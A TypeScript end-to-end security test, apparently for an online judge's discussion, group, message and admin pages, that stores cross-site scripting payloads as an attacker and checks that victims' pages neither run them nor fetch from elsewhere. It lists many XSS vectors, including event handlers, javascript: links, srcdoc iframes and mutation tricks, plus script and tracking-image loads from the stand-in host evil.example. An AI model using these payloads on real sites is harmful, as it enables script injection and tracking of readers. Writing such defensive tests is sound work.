import { getUserAuthInfo } from '@oj/functions/features/account/contract.ts'
import { addComment, addReply, likeComment } from '@oj/functions/features/comment/contract.ts'
import {
  addDiscussionCategory,
  removeDiscussion,
  removeDiscussionCategory,
  reportDiscussion,
} from '@oj/functions/features/discussion/contract.ts'
import { addNotice, removeNotice } from '@oj/functions/features/message/contract.ts'
import { changeUserInfo } from '@oj/functions/features/profile/contract.ts'
import { searchSite } from '@oj/functions/features/search/contract.ts'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest'
import * as z from 'zod/mini'
import { asRoot, call, freshName, newUser, type TestUser } from '../../support/client/api.ts'
import { userAs } from '../../support/client/staff.ts'
import { useVisitors } from '../../support/client/visitor.ts'
import { discuss, discussIn, newDiscussionCategory } from '../../support/data/discussions.ts'
import { letIn, newGroup } from '../../support/data/groups.ts'

const visit = useVisitors()

const evil = 'https://evil.example'
/** A line of markup, and the same within as many characters as a name may have. */
const line = `<img src=x onerror=hacked=1><svg onload=hacked=1>"'><script src=${evil}/x.js></script>`
const name = '<svg/onload=hack=1>'
const markdown = `${line}

[link](javascript:hacked=1) [other](data:text/html,<script>hacked=1</script>) ![pic](x"onerror="hacked=1)
<a href="javascript:hacked=1" onclick="hacked=1">raw</a> <a href=" java&#10;script:hacked=1">tab</a>
<iframe src="${evil}" srcdoc="<script>parent.hacked=1</script>"></iframe> <object data="${evil}/o"></object>
<form action="${evil}"><button formaction="javascript:hacked=1">b</button></form> <video poster="${evil}/v"></video>
<link rel="stylesheet" href="${evil}/s.css"><style>@import '${evil}/t.css'</style><base href="${evil}/">
<meta http-equiv="refresh" content="0;url=${evil}"><p style="background:url(${evil}/b)">styled</p>
<math><mtext><mglyph><style><img src=x onerror=hacked=1></style></mglyph></mtext></math>
$\\href{javascript:hacked=1}{x}$ $\\htmlData{x}{y}$ @${name}

\`\`\`html
${line}
\`\`\``

/** Pictures that would tell another site who reads: of the staff alone, who write notices, they show at once. */
const spying = `![far](${evil}/far.png) <img src="//evil.example/near.png">`

const Seen = z.object({ hacked: z.boolean(), elements: z.array(z.string()), links: z.array(z.string()) })

/** What a page has, outside of its own head, that would run what others wrote or fetch from elsewhere. */
const dangers = async (page: Page) =>
  Seen.parse(
    await page.evaluate(`({
      hacked: 'hacked' in window || 'hack' in window,
      elements: [...document.querySelectorAll('main *, [role=dialog] *, [role=banner] *')].filter((one) =>
        ['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'LINK', 'BASE', 'META', 'VIDEO'].includes(one.tagName) ||
        // the kit writes some of its own
        (one.tagName === 'STYLE' && !('mantineStyles' in one.dataset)) ||
        one.closest('[class*=markdown] form') ||
        [...one.attributes].some(({ name, value }) =>
          name.startsWith('on') || name === 'srcdoc' || name === 'formaction' || /evil\\.example/.test(name === 'style' ? value : '')
        )
      ).map((one) => one.outerHTML.slice(0, 200)),
      links: [...document.querySelectorAll('[href], [src], [action]')]
        .map((one) => one.getAttribute('href') ?? one.getAttribute('src') ?? one.getAttribute('action'))
        .filter((to) => /^\\s*(java\\s*script|data:text|vbscript)/i.test(to)),
    })`),
  )

const safe = { hacked: false, elements: [], links: [] }

let root: { token: string }
let attacker: TestUser
let victim: TestUser
let uid: string
/** What stands in each text of the attack, and nowhere else. */
const mark = freshName('mark')
const title = `${mark} ${line}`
const made = { cid: 0, did: 0, gid: 0, inGroup: 0, notices: [0] }

/** What an attacker stores whom nothing holds back, in everything that others look at. */
beforeAll(async () => {
  root = await asRoot()
  ;[attacker, victim] = await Promise.all([userAs('problem_admin', 'attack'), newUser('victim')])
  uid = (await call(getUserAuthInfo, {}, attacker)).uid
  await call(changeUserInfo, { nickname: name, signature: line, school: name }, attacker)
  await newDiscussionCategory(root)
  const { id: cid } = await call(addDiscussionCategory, { name }, root)
  const written = `${mark} @${victim.username} ${markdown}`
  const content = `${spying}\n\n${written}`
  const did = await discuss(cid, attacker, { title, description: line, content })
  const { id } = await call(addComment, { did, content }, attacker)
  await call(addReply, { reply: { commentId: id, content } }, attacker)
  const { id: own } = await call(addComment, { did, content: 'harmless' }, victim)
  await call(addReply, { reply: { commentId: own, content } }, attacker)
  await call(likeComment, { cid: own, toLike: true }, attacker)
  const gid = await newGroup(attacker, { name, brief: line.slice(0, 50), description: content.slice(0, 1000) })
  await letIn(gid, attacker, victim)
  const inGroup = await discussIn(gid, cid, attacker, { title, description: line, content })
  const deleted = await discuss(cid, attacker, { title })
  await call(reportDiscussion, { did, tags: ['ads'], content: line }, attacker)
  await call(removeDiscussion, { did: deleted }, attacker)
  const notices = await Promise.all(
    (['Single', 'Admin'] as const).map((type) =>
      call(addNotice, { title, content: written, type, recipient: type === 'Single' ? victim.username : '' }, root),
    ),
  )
  Object.assign(made, { cid, did, gid, inGroup, notices: notices.map((one) => one.id) })
})
afterAll(async () => {
  for (const id of made.notices) await call(removeNotice, { id }, root)
  for (const did of [made.did, made.inGroup]) await call(removeDiscussion, { did }, attacker)
  await call(removeDiscussionCategory, { id: made.cid }, root)
})

const origin = () => new URL(inject('url')).origin

/**
 * Lets somebody look at pages that show a text, each until it is there; what was asked of other sites meanwhile. The browser does
 * without the site's policy: what makes texts safe holds alone.
 */
async function look(page: Page, pages: readonly (readonly [path: string, shown: string])[]): Promise<string[]> {
  const session = await page.context().newCDPSession(page)
  await session.send('Page.setBypassCSP', { enabled: true })
  const elsewhere: string[] = []
  page.on('request', (one) => {
    if (/^https?:/.test(one.url()) && !one.url().startsWith(origin())) elsewhere.push(one.url())
  })
  page.on('dialog', (one) => elsewhere.push(one.message()))
  for (const [path, shown] of pages) {
    await page.goto(path)
    await expect.poll(() => page.getByRole('main').textContent(), { message: path }).toContain(shown)
    expect(await dangers(page), path).toEqual(safe)
    expect(page.url(), path).toContain(origin())
  }
  return elsewhere
}

describe('DS-02 what others write runs nowhere and fetches nothing', () => {
  it('on the pages of the site, and in its search, which a phone with a keyboard uses in Chinese', async () => {
    // who has just come is found by name from the next build of the ranks on, which may be older than their nickname
    const known = async () =>
      (await call(searchSite, { keyword: attacker.username }, victim)).users.map((one) => one.nickname)
    await expect.poll(known).toEqual([name])
    const page = await visit('/home', { user: victim, alone: true, width: 375, locale: 'zh-CN' })
    const elsewhere = await look(page, [
      [`/discussion-detail/${made.did}`, 'harmless'],
      [`/user-home?${new URLSearchParams({ uid, username: attacker.username })}`, line],
      [`/discussion?cid=${made.cid}`, title],
    ])
    await page.keyboard.press('Control+k')
    const dialog = page.getByRole('dialog', { name: '全站搜索' })
    await dialog.getByRole('combobox').fill(attacker.username)
    await dialog.getByRole('group', { name: '用户' }).getByRole('option', { name }).waitFor()
    expect(await dangers(page)).toEqual(safe)
    await dialog.getByRole('combobox').fill(mark)
    const found = dialog.getByRole('group', { name: '讨论' }).getByRole('option', { name: mark })
    await expect.poll(() => found.count()).toBe(2)
    expect(await dangers(page)).toEqual(safe)
    expect(await page.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(true)
    await page.keyboard.press('ArrowDown')
    await page.keyboard.press('Enter')
    await page.waitForURL('**/discussion-detail/*')
    expect(elsewhere).toEqual([])
  })

  it('in a group, and in messages', async () => {
    const page = await visit('/home', { user: victim, alone: true })
    const elsewhere = await look(page, [
      [`/group/${made.gid}`, mark],
      [`/group/${made.gid}/discussion`, title],
      [`/group/${made.gid}/discussion-detail/${made.inGroup}`, title],
      ['/message/discuss', title],
      ['/message/reply', title],
      ['/message/like', title],
      ['/message/mine', title],
    ])
    expect(elsewhere).toEqual([])
  })

  it('in the back office', async () => {
    const page = await visit('/admin/dashboard', { user: root, alone: true })
    const elsewhere = await look(page, [
      [`/admin/discussion?keyword=${mark}`, title],
      ['/admin/discussion?tab=reports', line],
      ['/admin/discussion?tab=deleted', title],
      ['/admin/discussion/category', name],
      ['/admin/notice', title],
      ['/admin/group', name],
    ])
    expect(elsewhere).toEqual([])
  })
})
